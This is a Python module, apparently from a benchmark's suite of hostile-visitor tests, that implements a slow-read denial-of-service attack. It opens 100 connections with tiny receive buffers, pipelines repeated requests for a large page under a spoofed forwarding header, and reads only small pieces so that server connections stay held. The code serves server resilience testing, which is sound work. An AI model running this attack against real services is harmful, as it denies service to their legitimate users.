"""An attack by slow readers that hold the maximum number of connections."""

from __future__ import annotations

import contextlib
import selectors
import socket
import time
from typing import Final
from urllib.parse import urlsplit

from bench.hostile.visitors import ATTACKER, Strike

LINES: Final = 100
EVERY: Final = 0.1
BITE: Final = 2_000
PAGE: Final = "/schema/openapi.json"


def slow_readers(strike: Strike) -> None:
    """Request a large page again and again on many connections, and read little of it."""
    where = urlsplit(strike.url)
    request = (
        f"GET {PAGE} HTTP/1.1\r\nHost: {where.netloc}\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n"
    ).encode()
    lines = [opened(where.hostname or "", where.port or 0, request * 20) for _ in range(LINES)]
    with selectors.DefaultSelector() as waiting:
        for line in lines:
            waiting.register(line, selectors.EVENT_READ)
        while strike.lasts():
            time.sleep(EVERY)
            for key, _ in waiting.select(0):
                taken = b""
                with contextlib.suppress(OSError):
                    taken = key.fileobj.recv(BITE)  # type: ignore[union-attr]
                strike.seen["bites" if taken else "closed"] += 1
                if not taken:
                    waiting.unregister(key.fileobj)
    for line in lines:
        line.close()


def opened(host: str, port: int, request: bytes) -> socket.socket:
    """Return a connection with a small receive window, on which a request was sent."""
    line = socket.socket()
    line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    line.settimeout(10)
    line.connect((host, port))
    line.sendall(request)
    line.setblocking(False)
    return line
